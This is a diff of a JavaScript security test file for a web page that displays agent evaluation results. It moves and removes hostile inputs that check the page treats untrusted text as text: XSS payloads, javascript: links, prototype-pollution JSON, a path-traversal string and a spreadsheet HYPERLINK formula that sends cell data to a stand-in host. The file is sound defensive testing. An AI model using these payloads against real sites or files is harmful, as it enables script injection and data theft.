@@ -1,141 +1,28 @@
 // Texts that nobody has vetted: on every screen and in every file that leaves the page they are text, however they are
-// written, however long they are and however many.
+// written.
 
 import assert from "node:assert/strict";
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
-import { tmpdir } from "node:os";
-import { join } from "node:path";
-import { after, describe, test } from "node:test";
+import { readFileSync } from "node:fs";
+import { describe, test } from "node:test";
 import { pathToFileURL } from "node:url";
-import { evaluate, scored, showing, turn } from "./scored.mjs";
+import {
+  assertHarmless,
+  EVERYTHING,
+  file,
+  hostileCases,
+  hostileResults,
+  MARKUP,
+  nested,
+  onDisk,
+  PROTOTYPE_KEYS,
+  rubric,
+  RUBRICS,
+  watched,
+} from "./hostile.mjs";
+import { scored, showing, turn } from "./scored.mjs";
 import { becomes, playground, skip, violations } from "./support.mjs";
 
-const OWN = "globalThis.__owned=1";
-const ELSEWHERE = "http://elsewhere.invalid";
-
-/** Markup, scripts, addresses and what ends a context that text may stand in. */
-const MARKUP = [
-  `<img src=x onerror="${OWN}">`,
-  `<script>${OWN}</script>`,
-  `"><svg onload="${OWN}">`,
-  `'" autofocus onfocus="${OWN}" x="`,
-  `<a href="javascript:${OWN}">go</a>`,
-  `[go](javascript:${OWN}) ![see](${ELSEWHERE}/see.png)`,
-  `<iframe srcdoc="<script>parent.${OWN}</script>"></iframe>`,
-  `<link rel=stylesheet href=${ELSEWHERE}/a.css><style>@import "${ELSEWHERE}/b.css";</style>`,
-  `</style></title></textarea></script>--><!-- ]]> <![CDATA[ <?xml ?>`,
-  `{{constructor.constructor('${OWN}')()}} \${${OWN}}`,
-].join(" ");
-
-const UNSEEN =
-  "\u202Eesrever\u202C \u2066kept\u2069 \u200Bzero\uFEFF width \u0000\u0007\u001B[31mred\u001B[0m\u0085\u2028";
 const UNSEEN_CHARACTERS = /[\u202A-\u202E\u2066-\u2069\u200B\uFEFF\u0000-\u0008\u001B]/;
-const FORMULA = `=HYPERLINK("${ELSEWHERE}?x="&A1,"go")`;
-const EVERYTHING = `${FORMULA} ${MARKUP} ${UNSEEN}`;
-
-const PROTOTYPE_KEYS = ["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf"];
-
-/** `{"a": {"a": … }}` as JSON text. */
-const nested = (depth) => `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`;
-
-/** Arguments as JSON text, in which `__proto__` is a key like any other. */
-const ARGS = JSON.stringify({ city: MARKUP, [MARKUP]: UNSEEN, list: [FORMULA, { [UNSEEN]: null }] }).replace(
-  /\}$/,
-  `,"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"deep":${nested(100)}}`,
-);
-
-const rubric = (id, text) => ({ rubricId: id, rubricContent: { textProperty: text }, description: text, type: text });
-
-/** The conversations: each case id is itself an attack. */
-function hostileCases() {
-  const calls = [{ name: EVERYTHING, args: { ...JSON.parse(ARGS) } }];
-  const said = turn(EVERYTHING, `${EVERYTHING} agreed`, calls);
-  const done = turn(EVERYTHING, `${EVERYTHING} differed`, [{ name: MARKUP, args: { [MARKUP]: FORMULA } }, ...calls]);
-  const ids = [EVERYTHING, ...PROTOTYPE_KEYS, UNSEEN, "+1+1", "@SUM(A1)", "x".repeat(10_000), "../../etc/passwd"];
-  return Object.fromEntries(
-    ids.map((id) => [
-      id,
-      [
-        [said, said],
-        [done, done],
-      ],
-    ]),
-  );
-}
-
-const RUBRICS = "rubric_based_final_response_quality_v1";
-const SENTENCES = "hallucinations_v1";
-
-/** Judged by a judge that is itself hostile. */
-async function hostileResults() {
-  const conversations = Object.entries(hostileCases());
-  const side = (at) => ({
-    evalSetId: EVERYTHING,
-    // A list of pairs: `__proto__` as a case id has to stay one.
-    evalCases: conversations.map(([evalId, turns]) => ({ evalId, conversation: turns[at] })),
-  });
-  return evaluate({
-    evalSet: JSON.stringify(side(0)),
-    actual: JSON.stringify(side(1)),
-    criteria: {
-      tool_trajectory_avg_score: 1,
-      response_match_score: 0.5,
-      final_response_match_v2: { threshold: 0.5, judgeModelOptions: { numSamples: 2 } },
-      [RUBRICS]: { threshold: 0.5, rubrics: [rubric("constructor", EVERYTHING), rubric(MARKUP, MARKUP)] },
-      [SENTENCES]: 0.5,
-    },
-    judge: Object.assign(
-      ({ metricName, purpose }) => {
-        if (metricName === RUBRICS) {
-          const entry = (text) => `Property: ${text}\nEvidence: ${MARKUP}\nRationale: ${EVERYTHING}\nVerdict: no\n`;
-          return entry(MARKUP) + entry(EVERYTHING);
-        }
-        if (purpose === "segment") return `<sentence>${MARKUP}</sentence><sentence>${FORMULA}</sentence>`;
-        if (purpose === "validate") {
-          return `sentence: ${MARKUP}\nlabel: contradictory\nrationale: ${EVERYTHING}\nsupporting_excerpt: null\ncontradicting_excerpt: ${MARKUP}\n`;
-        }
-        return `{"reasoning": ${JSON.stringify(EVERYTHING)}, "is_the_agent_response_valid": "invalid"}`;
-      },
-      { model: MARKUP },
-    ),
-  });
-}
-
-/** Notes what a page must never do. */
-function watched(page) {
-  const did = [];
-  const origin = new URL(page.url()).origin;
-  page.on("dialog", (dialog) => {
-    did.push(`a dialog: ${dialog.message()}`);
-    void dialog.dismiss();
-  });
-  page.on("popup", () => did.push("a window"));
-  page.on("request", (request) => {
-    const url = new URL(request.url());
-    if (url.protocol.startsWith("http") && url.origin !== origin) did.push(`a request to ${url.origin}`);
-  });
-  return did;
-}
-
-async function assertHarmless(page, did, where) {
-  assert.deepEqual(did, [], where);
-  const seen = await page.evaluate(() => ({
-    owned: globalThis.__owned,
-    polluted: {}.polluted,
-    foreign: [...document.querySelectorAll("main :is(img, iframe, script, link, style, object, embed, base)")].length,
-    links: [...document.querySelectorAll("a[href]")].filter(({ protocol }) => !/^(https?|blob):$/.test(protocol))
-      .length,
-    handlers: [...document.querySelectorAll("main *")].flatMap((element) =>
-      element.getAttributeNames().filter((name) => name.startsWith("on")),
-    ),
-    tooWide: document.documentElement.scrollWidth - innerWidth,
-  }));
-  assert.equal(seen.owned, undefined, `${where} ran a script`);
-  assert.equal(seen.polluted, undefined, `${where} changed every object`);
-  assert.deepEqual([seen.foreign, seen.links, seen.handlers], [0, 0, []], `${where} holds markup that was text`);
-  assert.ok(seen.tooWide <= 0, `${where} is ${seen.tooWide} px too wide`);
-  assert.ok((await page.title()).length < 300, `${where} has a title that is too long`);
-}
 
 /** What a click has the browser save, in order. */
 async function saved(page, click, count = 1) {
@@ -167,18 +54,6 @@ function fields(csv) {
     found.push(quoted === undefined ? (plain ?? "") : quoted.replaceAll('""', '"'));
   }
   return found;
-}
-
-const file = (name, text) => ({ name, mimeType: "application/json", buffer: Buffer.from(text) });
-
-const folder = mkdtempSync(join(tmpdir(), "hostile-"));
-after(() => rmSync(folder, { recursive: true }));
-
-/** A file on the disk: what is large takes a page long to get from a test. */
-function onDisk(name, content) {
-  const path = join(folder, name);
-  writeFileSync(path, content);
-  return path;
 }
 
 describe("hostile texts", { skip }, () => {
@@ -441,177 +316,5 @@ describe("hostile texts", { skip }, () => {
     }
     await assertHarmless(page, did, "after the run");
     await site.done(page);
-  });
-});
-
-describe("hostile addresses and files that are dropped", { skip }, () => {
-  const site = playground();
-
-  test("lead to a screen, run nothing and ask nobody", async () => {
-    const page = await showing(site, await hostileResults());
-    const did = watched(page);
-    const places = [
-      "-1",
-      "1e9",
-      "0.5",
-      "NaN",
-      "__proto__",
-      "constructor",
-      "%00",
-      "%E0%A4%A",
-      "..%2F..%2F",
-      "javascript:1",
-    ];
-    const screens = [
-      "files",
-      "criteria",
-      "run",
-      "results",
-      "compare",
-      "case",
-      "edit",
-      "__proto__",
-      "constructor",
-      "nowhere",
-    ];
-    const own = [
-      MARKUP,
-      `javascript:${OWN}`,
-      `data:text/html,<script>${OWN}</script>`,
-      `//${ELSEWHERE.slice(7)}`,
-      "%",
-      "x".repeat(1e6),
-    ];
-    const addresses = [
-      ...screens.flatMap((screen) => places.map((place) => `#/${screen}/${place}`)),
-      ...[...own, ...places].flatMap((text) => [`#${text}`, `#/edit/0/${text}/${text}`, `#/case/0/${text}`]),
-      ...["", "%00", "AAAA", "=".repeat(1e6), MARKUP, "__proto__"].map((text) => `#run=${text}`),
-    ];
-    for (const address of addresses) {
-      await page.evaluate((hash) => (location.hash = hash), address);
-      await page.locator("main h1, main h2, main p").first().waitFor();
-      await assertHarmless(page, did, address.slice(0, 100));
-    }
-    assert.equal(new URL(page.url()).origin, site.origin);
-    await site.done(page);
-  });
-
-  test("are files with names that are text, links that lead nowhere, and pages that are not opened", async () => {
-    const page = await site.open();
-    const did = watched(page);
-    await page.evaluate(
-      ({ names, elsewhere }) => {
-        const zone = document.querySelector(".drop");
-        const drop = (fill) => {
-          const data = new DataTransfer();
-          fill(data);
-          for (const type of ["dragover", "drop"]) {
-            zone.dispatchEvent(new DragEvent(type, { dataTransfer: data, bubbles: true, cancelable: true }));
-          }
-        };
-        for (const name of names)
-          drop((data) => data.items.add(new File(["<script>__owned=1</script>"], name, { type: "text/html" })));
-        drop((data) => data.setData("text/html", "<img src=x onerror=__owned=1>"));
-        drop((data) => data.setData("text/uri-list", `${elsewhere}/x.json`));
-        drop((data) => data.setData("text/plain", `javascript:__owned=1`));
-        drop((data) => data.setData("text/plain", '{"__proto__":{"polluted":true},"eval_set_id":"x","eval_cases":[]}'));
-      },
-      {
-        names: [
-          `${MARKUP.replaceAll("/", "")}.json`,
-          "page.html",
-          "../../x.json",
-          "__proto__",
-          "a\u0000b.json",
-          "x".repeat(5000),
-        ],
-        elsewhere: ELSEWHERE,
-      },
-    );
-    await page
-      .getByRole("button", { name: /^Take out/ })
-      .first()
-      .waitFor();
-    await page.waitForTimeout(300);
-    await assertHarmless(page, did, "dropped");
-    // What is said of the file that was read last depends on when each was.
-    await page.evaluate(
-      (name) => {
-        const data = new DataTransfer();
-        data.items.add(new File(["{}"], name));
-        const drop = new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true });
-        document.querySelector(".drop").dispatchEvent(drop);
-      },
-      `${"y".repeat(5000)}.json`,
-    );
-    await page.getByText(/^y+\.json was added/).waitFor();
-    await assertHarmless(page, did, "one of them");
-    assert.deepEqual(await violations(page), []);
-    await site.done(page);
-  });
-});
-
-// Whatever is not linear takes minutes with these, and every step of a test may take seconds: it fails where the page does
-// not answer.
-describe("texts and lists without measure", { skip }, () => {
-  const site = playground();
-
-  test("leave the page answering: answers of four million characters", async () => {
-    const page = await site.open();
-    const words = "word ".repeat(800_000);
-    const unbroken = "x".repeat(4_000_000);
-    const set = (...answers) =>
-      JSON.stringify({
-        eval_set_id: "long",
-        eval_cases: answers.map((answer, at) => ({ eval_id: `c${at}`, conversation: [turn(answer, answer)] })),
-      });
-    await page
-      .getByLabel("Choose files")
-      .setInputFiles([
-        onDisk("long.evalset.json", set(words, unbroken)),
-        onDisk("long.actual.json", set(`${words} end`, `${unbroken} end`)),
-        onDisk("test_config.json", '{"criteria":{"response_match_score":0.5}}'),
-      ]);
-    await page.getByRole("button", { name: "Score 2 cases" }).click();
-    await page.waitForURL("**/#/results");
-    await page.getByRole("grid").waitFor();
-    for (const at of [0, 1]) {
-      await page.goto(`${site.origin}/#/case/${at}`);
-      await page.locator(".turn").first().waitFor();
-    }
-    await page.getByRole("button", { name: /^Show/ }).first().click();
-    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
-    await site.done(page);
-  });
-
-  test("leave the page answering: five thousand rubrics", async () => {
-    const rubrics = Array.from({ length: 5000 }, (_, at) => rubric(`rubric_${at}`, `Property ${at} holds`));
-    const result = await scored(
-      { many: [[turn("Go", "Gone")], [turn("Go", "Gone")]] },
-      { [RUBRICS]: { threshold: 0.5, rubrics, judgeModelOptions: { numSamples: 1 } } },
-      {
-        judge: () =>
-          rubrics
-            .map(({ rubricContent }) => `Property: ${rubricContent.textProperty}\nRationale: Fine.\nVerdict: yes\n`)
-            .join("\n"),
-      },
-    );
-    const page = await site.open({ at: "#/compare" });
-    await page.goto(`${site.origin}/#/files`);
-    const config = JSON.stringify({ criteria: { [RUBRICS]: { threshold: 0.5, rubrics } } });
-    await page
-      .getByLabel("Choose files")
-      .setInputFiles([onDisk("many.evalset_result.json", JSON.stringify(result)), onDisk("test_config.json", config)]);
-    await page.getByText("2 files were added").waitFor();
-    await page.goto(`${site.origin}/#/criteria`);
-    await page.getByRole("checkbox", { name: RUBRICS, exact: true }).waitFor();
-    for (const folded of await page.locator("main details:not([open]) > summary").all()) {
-      if (await folded.isVisible()) await folded.click();
-    }
-    await site.done(page);
-    const shown = await showing(site, result);
-    await shown.goto(`${site.origin}/#/case/0`);
-    await shown.locator(".turn").first().waitFor();
-    await site.done(shown);
   });
 });
